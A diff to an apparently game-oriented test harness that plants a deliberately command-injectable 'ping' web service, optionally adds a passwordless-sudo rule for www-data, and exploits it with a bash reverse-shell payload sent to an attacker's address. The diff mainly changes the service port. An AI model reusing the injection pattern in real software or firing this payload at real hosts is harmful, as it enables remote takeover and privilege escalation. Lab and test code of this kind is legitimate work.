@@ -42,6 +42,9 @@ export interface AttackRef {
 
 export { until };
 
+/** The port of the service a test plants in a box (`plantVulnerableService`). */
+export const PLANTED_PORT = 8099;
+
 export class Arena {
   /** The platform players talk to (replace it after a restart on the same PORT and DATA_DIR). */
   platform: RunningPlatform;
@@ -126,14 +129,15 @@ export class Arena {
 
   /**
    * The defender's mistake: a "ping" page that pastes its parameter into a shell, run by
-   * systemd as www-data on port 8080 (and, with `sudo`, a rule that lets www-data do anything).
+   * systemd as www-data on PLANTED_PORT (and, with `sudo`, a rule that lets www-data do anything). A
+   * port no catalogue entry uses, beside the box's own loadout.
    */
   async plantVulnerableService(defender: ArenaPlayer, options: { sudo?: boolean } = {}): Promise<void> {
     const service = `require('http').createServer((req, res) => {
       const host = new URL(req.url, 'http://box').searchParams.get('host') || '';
       require('child_process').spawn('sh', ['-c', 'ping -c 1 ' + host], { detached: true, stdio: 'ignore' }).unref();
       res.end('pinged\\n');
-    }).listen(8080);`;
+    }).listen(${PLANTED_PORT});`;
     await defender.computer.ssh(
       defender.box.ip,
       [
@@ -142,7 +146,7 @@ export class Arena {
         options.sudo
           ? 'echo "www-data ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/ops && chmod 440 /etc/sudoers.d/ops'
           : 'true',
-        'for i in $(seq 50); do (exec 3<>/dev/tcp/127.0.0.1/8080) 2>/dev/null && exit 0; sleep 0.1; done; exit 1',
+        `for i in $(seq 200); do (exec 3<>/dev/tcp/127.0.0.1/${PLANTED_PORT}) 2>/dev/null && exit 0; sleep 0.1; done; exit 1`,
       ].join('\n'),
       { password: defender.box.password },
       [service],
@@ -154,7 +158,9 @@ export class Arena {
     const listener = await attacker.computer.listenForShell(port);
     this.#listeners.push(listener);
     const payload = `;bash -c 'bash -i >& /dev/tcp/${attacker.vpnAddress}/${port} 0>&1'`;
-    await attacker.computer.httpGet(`http://${target.box.ip}:8080/?host=${encodeURIComponent(payload)}`);
+    await attacker.computer.httpGet(
+      `http://${target.box.ip}:${PLANTED_PORT}/?host=${encodeURIComponent(payload)}`,
+    );
     await listener.connected;
     return listener;
   }
